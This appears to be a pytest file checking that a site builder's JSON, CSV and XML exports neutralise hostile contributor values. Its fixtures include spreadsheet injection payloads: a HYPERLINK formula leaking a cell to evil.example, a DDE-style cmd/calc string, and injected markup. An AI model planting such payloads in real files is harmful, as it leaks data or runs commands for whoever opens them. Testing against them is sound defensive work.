"""Contributor values reach JSON, JSON in HTML, CSV and XML through one function per format
(``atlas.formats``), and no value can corrupt a file of any of them.

The functions are checked with generated values (hypothesis) and through a built site whose entries
hold formulas and markup.
"""
from __future__ import annotations

import csv
import io
import json
import math
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from atlas.formats import FORMULA_STARTS, csv_cell, json_bytes, json_in_html, json_text, xml_text
from conftest import minimal_project, run_atlas

# any JSON value with any text in it (every code point but lone surrogates, which UTF-8 cannot hold)
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=12,
)


def _strict_loads(text: str):
    def refuse(constant):
        raise ValueError(f"{constant} is not JSON")
    return json.loads(text, parse_constant=refuse)


@settings(max_examples=300, derandomize=True, deadline=None)
@given(JSON_VALUES)
def test_json_in_html_reads_back_the_same_and_holds_no_markup(value):
    text = json_in_html(value)
    assert _strict_loads(text) == value
    assert not set(text) & {"<", ">", "&", "'", "\u2028", "\u2029"}
    assert json_bytes(value).endswith(b"\n") and _strict_loads(json_bytes(value).decode("utf-8")) == value


@pytest.mark.parametrize("bad", [math.inf, -math.inf, math.nan, {"value": math.inf}, [1.0, math.nan]])
def test_json_refuses_what_json_cannot_hold(bad):
    for write in (json_text, json_in_html, json_bytes):
        with pytest.raises(ValueError):
            write(bad)


@settings(max_examples=300, derandomize=True, deadline=None)
@given(TEXT)
def test_csv_cells_are_never_formulas_and_keep_their_text(text):
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([csv_cell(text), "next"])
    cell, after = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert after == "next"
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.text(max_size=40))  # lone surrogates included
def test_xml_text_is_always_well_formed(text):
    element = ET.Element("title")
    element.text = xml_text(text)
    element.set("label", xml_text(text))
    data = ET.tostring(element, encoding="utf-8")
    parsed = ET.fromstring(data)  # well-formed, and the text is all there (XML reads CR as LF in text)
    assert (parsed.text or "") == xml_text(text).replace("\r\n", "\n").replace("\r", "\n")
    assert parsed.get("label") == xml_text(text)


def test_feeds_stay_well_formed_whatever_an_event_holds(atlas):
    """Validation refuses characters XML cannot hold; the feed writer is safe even without it."""
    from atlas.export.feeds import atom_feed

    event = atlas.events["asan-a-tech-forum-2025"].model_copy(deep=True)
    event.name.ko = "포럼 \ufffe\x01\x1b </title><b>&amp;"
    data = atom_feed(atlas, [event], title="t\x0c", self_path="feeds/x.xml", alternate_path="events/", lang="ko",
                     prefix="", site_url=None, updated={}, fallback_updated="2025")
    root = ET.fromstring(data)
    titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert "포럼 \ufffd\ufffd\ufffd </title><b>&amp;" in titles


FORMULAS = {
    "hoseo-university": '=HYPERLINK("https://evil.example/?leak="&A1,"클릭")',
}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    """The minimal project with formulas and markup in names, built."""
    tmp = tmp_path_factory.mktemp("formulas")
    project = minimal_project(tmp)
    inst = project / "data/institutions/hoseo-university.yml"
    inst.write_text(inst.read_text(encoding="utf-8").replace(
        "name: {ko: 호서대학교, en: Hoseo University}",
        "name: {ko: " + json.dumps(FORMULAS["hoseo-university"]) + ", en: \"+cmd|' /C calc'!A0\"}\n"
        "short_names: [\"@SUM(1+1)*cmd\", \"-2+3\", \"\uff1d1+1\"]"), encoding="utf-8")
    event = project / "data/events/test-forum.yml"
    event.write_text(event.read_text(encoding="utf-8").replace(
        "summary: {ko: 포럼 요약, en: Forum summary}", "summary: {ko: \"-포럼 요약\", en: \"@Forum summary\"}"),
        encoding="utf-8")
    site = tmp / "site"
    result = run_atlas("build", "--site-dir", str(site), cwd=project, env={"SOURCE_DATE_EPOCH": "1763683200"})
    assert result.returncode == 0, result.stdout + result.stderr
    return site


def _rows(site, name: str) -> list[dict]:
    text = (site / "data" / name).read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_downloads_hold_no_formula(formula_site):
    for name in ("institutions.csv", "events.csv", "targets.csv"):
        for row in _rows(formula_site, name):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
    hoseo = next(r for r in _rows(formula_site, "institutions.csv") if r["slug"] == "hoseo-university")
    assert hoseo["name_ko"] == "'" + FORMULAS["hoseo-university"]  # the text is all there, shown as text
    assert float(hoseo["lat"]) > 33  # numbers stay numbers


def test_json_downloads_are_strict_json_and_keep_the_text(formula_site):
    files = sorted((formula_site / "data").rglob("*.json")) + sorted((formula_site / "data").rglob("*.geojson"))
    assert files
    for path in files:
        _strict_loads(path.read_text(encoding="utf-8"))
    record = _strict_loads((formula_site / "data/institutions/hoseo-university.json").read_text(encoding="utf-8"))
    assert _strings(record) >= {FORMULAS["hoseo-university"]}  # the value as written, not neutralised


def _strings(value) -> set[str]:
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return set().union(*map(_strings, items)) if items else set()


def test_downloads_page_says_how_formulas_are_neutralised(formula_site):
    from bs4 import BeautifulSoup

    for url, words in (("downloads/index.html", "작은따옴표"), ("en/downloads/index.html", "apostrophe")):
        text = BeautifulSoup((formula_site / url).read_text(encoding="utf-8"), "html.parser").get_text(" ")
        assert words in text and "OWASP" in text, url
